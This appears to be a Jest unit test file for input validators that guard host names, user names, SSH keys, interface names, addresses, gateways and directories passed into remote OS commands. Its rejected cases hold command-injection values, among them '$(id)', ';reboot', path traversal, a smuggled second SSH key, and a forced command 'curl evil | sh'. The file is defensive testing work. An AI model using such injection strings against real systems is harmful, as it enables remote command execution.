// Unit: the grammars that guard every value the OS driver puts into a remote command.

import {
  cidrViolation,
  gatewayViolation,
  hostnameViolation,
  interfaceNameViolation,
  normalizeSshPublicKey,
  parseCidr,
  rootDirViolation,
  sshPublicKeyViolation,
  usernameViolation,
} from '../../engine/src/drivers/os/os-grammar';

/** A length-prefixed SSH wire-format string. */
function sshString(b: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(b.length, 0);
  return Buffer.concat([length, b]);
}
/** A public key blob: the type name, then (fake) key material. */
function blob(type: string, material = Buffer.alloc(32, 7)): string {
  return Buffer.concat([sshString(Buffer.from(type)), sshString(material)]).toString('base64');
}
const ED = `ssh-ed25519 ${blob('ssh-ed25519')}`;

describe('host names (RFC 1123, at most 64 characters)', () => {
  test.each(['web-01', 'web-01.dc1.example.com', '1host', 'A', 'a'.repeat(63), `${'a'.repeat(31)}.${'b'.repeat(32)}`])('accepts %j', (name) => {
    expect(hostnameViolation('hostname', name)).toBeNull();
  });

  test.each([
    ['a shell separator', 'web01;reboot'],
    ['command substitution', '$(id)'],
    ['backticks', '`id`'],
    ['a pipe', 'x|y'],
    ['an ampersand', 'a&&b'],
    ['a quote', "a'b"],
    ['a space', 'a b'],
    ['a newline', 'web\nreboot'],
    ['an option-like leading hyphen', '-F'],
    ['a trailing hyphen', 'web-'],
    ['an underscore', 'web_01'],
    ['an empty label', 'a..b'],
    ['a trailing dot', 'web.'],
    ['the empty string', ''],
    ['65 characters', `${'a'.repeat(32)}.${'b'.repeat(32)}`],
    ['a 64-character label', 'a'.repeat(64)],
  ])('rejects %s', (_why, name) => {
    expect(hostnameViolation('hostname', name)).toEqual({ field: 'hostname', reason: expect.stringContaining('is not a valid host name') });
  });
});

describe('user names', () => {
  test.each(['root', 'ubuntu', '_svc', 'deploy-user', 'a'.repeat(32)])('accepts %j', (user) => {
    expect(usernameViolation('user', user)).toBeNull();
  });

  test.each(['Root', '0day', 'a;b', 'a b', '', 'a'.repeat(33), '-x', 'root\n', '../etc', '$USER'])('rejects %j', (user) => {
    expect(usernameViolation('user', user)?.field).toBe('user');
  });
});

describe('SSH public keys', () => {
  test.each([
    ['ed25519 without comment', ED],
    ['ed25519 with a comment holding spaces and non-ASCII', `${ED} ops team — laptop`],
    ['rsa', `ssh-rsa ${blob('ssh-rsa', Buffer.alloc(270, 1))} a@b`],
    ['ecdsa', `ecdsa-sha2-nistp256 ${blob('ecdsa-sha2-nistp256', Buffer.alloc(65, 4))}`],
    ['security key', `sk-ssh-ed25519@openssh.com ${blob('sk-ssh-ed25519@openssh.com')} yubikey`],
    ['surrounding and repeated spaces', `   ${ED.replace(' ', '    ')}   c   `],
  ])('accepts %s', (_why, key) => {
    expect(sshPublicKeyViolation('ssh_keys[0]', key)).toBeNull();
  });

  test.each([
    ['an authorized_keys option (forced command)', `command="curl evil | sh" ${ED}`],
    ['a from= option', `from="10.0.0.0/8" ${ED}`],
    ['a newline smuggling a second key', `${ED} me\nssh-rsa ${blob('ssh-rsa')} attacker`],
    ['a carriage return', `${ED} me\r`],
    ['a tab between fields', ED.replace(' ', '\t')],
    ['a blob of another type than its label', `ssh-rsa ${blob('ssh-ed25519')}`],
    ['shell syntax in the blob', 'ssh-ed25519 AAAA$(reboot)'],
    ['a blob that is not base64', 'ssh-ed25519 not-base64!'],
    ['a truncated blob', `ssh-ed25519 ${blob('ssh-ed25519').slice(0, 8)}`],
    ['no blob', 'ssh-ed25519'],
    ['an unknown type', `ssh-foo ${blob('ssh-foo')}`],
    ['ssh-dss', `ssh-dss ${blob('ssh-dss')}`],
    ['the empty string', ''],
  ])('rejects %s', (_why, key) => {
    expect(sshPublicKeyViolation('ssh_keys[0]', key)).toEqual({ field: 'ssh_keys[0]', reason: expect.stringContaining('not a valid SSH public key') });
  });

  test('normalises a key to single-space separated fields', () => {
    expect(normalizeSshPublicKey(`  ${ED.replace(' ', '   ')}  my   laptop `)).toBe(`${ED} my laptop`);
  });
});

describe('interface names', () => {
  test.each(['eth0', 'enp3s0f1', 'bond0.100', 'br-ex', 'srv_0', 'a'.repeat(15)])('accepts %j', (name) => {
    expect(interfaceNameViolation('interface', name)).toBeNull();
  });

  test.each(['', 'eth0;reboot', 'eth 0', '../x', 'a'.repeat(16), '-eth0', 'eth0:1', 'eth/0', '.', '..', 'eth0\n', '$(id)', 'eth0 type dummy'])('rejects %j', (name) => {
    expect(interfaceNameViolation('interface', name)?.field).toBe('interface');
  });
});

describe('addresses with prefix length', () => {
  test.each([
    ['10.1.2.3/24', { address: '10.1.2.3', prefix: 24, family: 4 }],
    ['192.168.0.1/32', { address: '192.168.0.1', prefix: 32, family: 4 }],
    ['2001:db8::5/64', { address: '2001:db8::5', prefix: 64, family: 6 }],
    ['::ffff:10.0.0.1/128', { address: '::ffff:10.0.0.1', prefix: 128, family: 6 }],
  ])('parses %j', (cidr, parsed) => {
    expect(parseCidr(cidr)).toEqual(parsed);
    expect(cidrViolation('address', cidr)).toBeNull();
  });

  test.each([
    ['no prefix', '10.1.2.3'],
    ['a prefix too long for IPv4', '10.1.2.3/33'],
    ['a prefix too long for IPv6', '2001:db8::5/129'],
    ['a zero prefix', '10.1.2.3/0'],
    ['a prefix with a leading zero', '10.1.2.3/024'],
    ['an octet above 255', '256.1.1.1/24'],
    ['an octet with a leading zero', '010.1.2.3/24'],
    ['three octets', '10.1.2/24'],
    ['two prefixes', '10.1.2.3/24/1'],
    ['a command after the prefix', '10.1.2.3/24; reboot'],
    ['ip arguments after the prefix', '10.1.2.3/24 dev lo'],
    ['a leading space', ' 10.1.2.3/24'],
    ['an IPv6 zone id', 'fe80::1%eth0/64'],
    ['a host name', 'example.com/24'],
  ])('rejects %s', (_why, cidr) => {
    expect(parseCidr(cidr)).toBeNull();
    expect(cidrViolation('address', cidr)?.field).toBe('address');
  });
});

describe('gateways', () => {
  test.each([
    ['10.1.2.1', 4],
    ['2001:db8::1', 6],
  ] as const)('accepts %j for IPv%d', (gateway, family) => {
    expect(gatewayViolation('gateway', gateway, family)).toBeNull();
  });

  test.each([
    ['an IPv6 gateway for an IPv4 address', '2001:db8::1', 4, 'it is IPv6 but the address is IPv4'],
    ['an IPv4 gateway for an IPv6 address', '10.1.2.1', 6, 'it is IPv4 but the address is IPv6'],
    ['a gateway with a prefix', '10.1.2.1/24', 4, 'not a plain IP address'],
    ['ip arguments after the gateway', '10.1.2.1 dev lo', 4, 'not a plain IP address'],
    ['a command substitution', '$(reboot)', 4, 'not a plain IP address'],
  ] as const)('rejects %s', (_why, gateway, family, reason) => {
    expect(gatewayViolation('gateway', gateway, family)?.reason).toContain(reason);
  });
});

describe('root directories', () => {
  test.each(['/', '/tmp/srv-1', '/var/lib/maestro/servers/srv_1/'])('accepts %j', (dir) => {
    expect(rootDirViolation('root_dir', dir)).toBeNull();
  });

  test.each(['', 'relative/dir', '/tmp/../etc', '..', '/tmp/a b', '/tmp/$(id)', "/tmp/'x'", '/tmp/x\n'])('rejects %j', (dir) => {
    expect(rootDirViolation('root_dir', dir)?.field).toBe('root_dir');
  });
});
